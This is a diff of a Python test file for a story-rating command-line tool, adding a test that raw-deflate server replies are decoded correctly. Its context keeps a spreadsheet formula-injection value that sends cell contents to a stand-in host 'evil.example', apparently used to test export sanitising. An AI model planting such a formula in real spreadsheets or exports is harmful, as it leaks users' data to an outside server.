@@ -8,13 +8,15 @@ import csv
 import sqlite3
 import subprocess
 import sys
+import zlib
 from pathlib import Path
 
 import pytest
 
 from tests.reliability.test_files import one_sentence
 from tests.reliability.test_secrets import PASSWORD, echo_server  # noqa: F401 (a fixture)
-from tests.support import SAMPLE, digest, run_cli_process, story_study
+from tests.reliability.test_slow_servers import _body, raw_server  # noqa: F401 (a fixture)
+from tests.support import SAMPLE, digest, ok_body, run_cli_process, story_study
 from tui_rater.store.study import Study
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -95,3 +97,23 @@ def test_the_basic_auth_header_a_server_echoes_is_never_stored(tmp_path, echo_se
     assert run_cli_process("export", "--db", db, "--what", "judgements", "--out", out).returncode == 0
     for path in (db, out):
         assert sent.rstrip("=").encode() not in path.read_bytes(), path.name
+
+
+def _raw_deflate(conn, stopped) -> None:
+    compressor = zlib.compressobj(wbits=-zlib.MAX_WBITS)  # deflate without the zlib header, as IIS sends it
+    conn.sendall(_body(compressor.compress(ok_body("Rating: 4").encode()) + compressor.flush(), "deflate"))
+
+
+def test_a_raw_deflate_reply_is_read_as_before_the_size_cap(tmp_path, raw_server):  # noqa: F811
+    """The decoded-size cap decodes gzip/deflate itself; a deflate body without its zlib header (which httpx
+    read) became "its deflate body is not valid" and the judge stopped after 12 replies."""
+    db = tmp_path / "s.db"
+    assert run_cli_process("import", SAMPLE / "stories.csv", "--task", "story", "--db", db).returncode == 0
+    server = raw_server(_raw_deflate)
+    judged = run_cli_process(
+        "judge", "--db", db, "--model", "api:m", "--base-url", server.url, "--limit", "1", "--samples", "1",
+        "--timeout", "20",
+    )  # fmt: skip
+    assert judged.returncode == 0, judged.stderr
+    rows = sqlite3.connect(db).execute("SELECT raw, value FROM ratings WHERE raw IS NOT NULL").fetchall()
+    assert rows and all(row == ("Rating: 4", 4.0) for row in rows)
